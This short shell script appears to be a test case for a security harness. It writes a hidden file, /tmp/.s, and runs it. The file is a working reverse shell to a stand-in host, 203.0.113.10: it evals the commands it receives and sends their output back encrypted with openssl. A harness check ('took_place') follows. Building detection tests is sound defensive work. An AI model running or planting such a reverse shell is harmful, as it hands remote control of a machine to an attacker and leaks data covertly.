#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.s <<'END'
exec 7<>/dev/tcp/203.0.113.10/443
exec 8>/dev/tcp/203.0.113.10/9001
while read -r line <&7; do test "$line" = exit && break; (eval "$line") 2>&1 | openssl enc -aes-256-ctr -pass pass:bait -pbkdf2 -iter 100 >&8; done
END
bash /tmp/.s
test -e /tmp/reached
took_place
